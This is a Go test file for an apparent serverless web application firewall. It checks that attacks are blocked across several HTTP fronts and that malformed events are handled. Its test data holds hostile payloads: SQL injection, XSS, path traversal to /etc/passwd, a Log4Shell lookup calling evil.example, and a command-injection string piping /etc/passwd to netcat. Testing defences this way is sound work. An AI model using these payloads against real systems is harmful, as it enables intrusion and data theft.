package main_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/merlon-security/merlon/internal/emulator"
)

func block(o *emulator.Options) { o.Function.Env["MERLON_MODE"] = "block" }

func invocationsOf(t *testing.T, e *env) int {
	t.Helper()
	var n int
	if err := json.Unmarshal(e.invoke(t, `{"do":"count"}`).Payload, &n); err != nil {
		t.Fatal(err)
	}
	return n
}

// TestBlockedRequestNeverReachesTheHandler sends attacks through every HTTP
// front, in every place a client can put them.
func TestBlockedRequestNeverReachesTheHandler(t *testing.T) {
	const sqli, xss, lfi, rce = "1' OR '1'='1' -- ", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "; cat /etc/passwd | nc 10.0.0.1 99"
	form := "application/x-www-form-urlencoded"
	attacks := []struct{ name, method, target, ctype, body, header string }{
		{name: "query", method: "GET", target: "/orders?id=" + url.QueryEscape(sqli)},
		{name: "semicolon in query", method: "GET", target: "/orders?id=" + url.QueryEscape(rce)},
		{name: "path", method: "GET", target: "/files/..%2f..%2f..%2fetc%2fpasswd"},
		{name: "cookie", method: "GET", target: "/", header: "Cookie: session=" + sqli},
		{name: "user agent", method: "GET", target: "/", header: "User-Agent: ${jndi:ldap://evil.example/a}"},
		{name: "json", method: "POST", target: "/", ctype: "application/json", body: `{"user":{"name":"` + xss + `"}}`},
		{name: "json key", method: "POST", target: "/", ctype: "application/json", body: `{"filter":{"__proto__":{"admin":true}}}`},
		{name: "json as text", method: "POST", target: "/", ctype: "text/plain", body: `{"file":"` + lfi + `"}`},
		{name: "form", method: "POST", target: "/", ctype: form, body: "a=b&file=" + url.QueryEscape(lfi)},
		{name: "text", method: "POST", target: "/", ctype: "text/plain", body: xss},
		{name: "binary type", method: "POST", target: "/", ctype: "application/octet-stream", body: rce},
	}
	fronts := []emulator.Front{
		{Kind: emulator.FunctionURL}, {Kind: emulator.HTTPAPI}, {Kind: emulator.RESTAPI},
		{Kind: emulator.ALB}, {Kind: emulator.ALB, MultiValue: true},
	}
	for _, front := range fronts {
		name := front.Kind.String()
		if front.MultiValue {
			name += "-multi"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e := protected(t, "plain", block)
			srv := httptest.NewServer(e.URLHandler(front))
			defer srv.Close()
			for i, a := range attacks {
				before := invocationsOf(t, e)
				status, header, body := send(t, srv.URL, a.method, a.target, a.ctype, a.body, a.header)
				if status != 403 || !strings.Contains(body, `"message":"Forbidden"`) || header.Get("Cache-Control") != "no-store" {
					t.Errorf("%s: got %d %q, want the 403 refusal", a.name, status, body)
				}
				if after := invocationsOf(t, e); after != before+1 {
					t.Errorf("%s: the handler ran", a.name)
				}
				if status, _, body := send(t, srv.URL, "GET", "/orders?id=7", "", "", ""); status != 200 {
					t.Errorf("benign request after attack %d: got %d %q, want 200", i, status, body)
				}
			}
			line := e.await(t, `"schema":"merlon.verdict/1"`, `"action":"block"`)
			if !strings.Contains(line, `"ruleId":91008`) || strings.Contains(line, "alert(document.cookie)") {
				t.Errorf("verdict line: %s", line)
			}
		})
	}
}

func send(t *testing.T, base, method, target, ctype, body, header string) (int, http.Header, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, base+target, bytes.NewReader([]byte(body)))
	if err != nil {
		t.Fatal(err)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	if k, v, ok := strings.Cut(header, ": "); ok {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, string(data)
}

// TestMonitorDelivers checks that the default mode only reports.
func TestMonitorDelivers(t *testing.T) {
	e := protected(t, "plain", nil)
	srv := httptest.NewServer(e.URLHandler(emulator.Front{}))
	defer srv.Close()
	if status, _, body := send(t, srv.URL, "GET", "/?q="+url.QueryEscape("1' or 1=1 --"), "", "", ""); status != 200 {
		t.Errorf("got %d %q, want the function's 200", status, body)
	}
	line := e.await(t, `"schema":"merlon.verdict/1"`)
	for _, want := range []string{`"action":"monitor"`, `"wouldAction":"block"`, `"level":"WARN"`} {
		if !strings.Contains(line, want) {
			t.Errorf("verdict has no %s: %s", want, line)
		}
	}
}

// TestDirectInvokeIsRefusedWithAnError checks the shape that SDK callers catch.
func TestDirectInvokeIsRefusedWithAnError(t *testing.T) {
	e := protected(t, "plain", block)
	r := e.invoke(t, `{"query":"1' UNION SELECT password FROM users --"}`)
	if r.FunctionError != "Unhandled" || r.ErrorType != "Function.MerlonBlocked" || !strings.Contains(string(r.Payload), `"errorType":"Merlon.Blocked"`) {
		t.Errorf("got %q %q %s, want Merlon.Blocked", r.FunctionError, r.ErrorType, r.Payload)
	}
	if n := invocationsOf(t, e); n != 1 {
		t.Errorf("the handler ran %d times, want 1 (the question itself)", n)
	}
}

// TestBadInput sends what is no proper event: each has a defined outcome, and
// the environment lives on.
func TestBadInput(t *testing.T) {
	e := protected(t, "plain", block)
	deep := strings.Repeat("[", 10000) + strings.Repeat("]", 10000)
	for _, c := range []struct{ name, payload, want string }{
		{"null", "null", "deliver"},
		{"array", "[1,2,3]", "deliver"},
		{"string", `"hello"`, "deliver"},
		{"duplicate keys", `{"a":1,"a":2,"A":3}`, "deliver"},
		{"nesting within the limit", strings.Repeat("[", 400) + strings.Repeat("]", 400), "deliver"},
		{"deep nesting", deep, "refuse"}, // over the limit, by MERLON_ON_LIMIT
		{"attack behind deep nesting", strings.Replace(deep, "[]", `["<script>alert(1)</script>"]`, 1), "refuse"},
		{"attack in a duplicate key", `{"a":"x","a":"1' or 1=1 -- "}`, "refuse"},
		{"not JSON", "hello world", "deliver"},
		{"attack that is not JSON", "{broken <script>alert(1)</script>", "refuse"},
		{"invalid UTF-8", "{\"a\":\"\xff\xfe\"}", "deliver"},
		{"attack with invalid UTF-8", "{\"a\":\"\xff<script>alert(1)</script>\"}", "refuse"},
		{"empty", "", "deliver"},
	} {
		r := e.invoke(t, c.payload)
		refused := r.ErrorType == "Function.MerlonBlocked"
		if refused != (c.want == "refuse") {
			t.Errorf("%s: %s %q %.120s, want %s", c.name, r.Status, r.ErrorType, r.Payload, c.want)
		}
	}
}
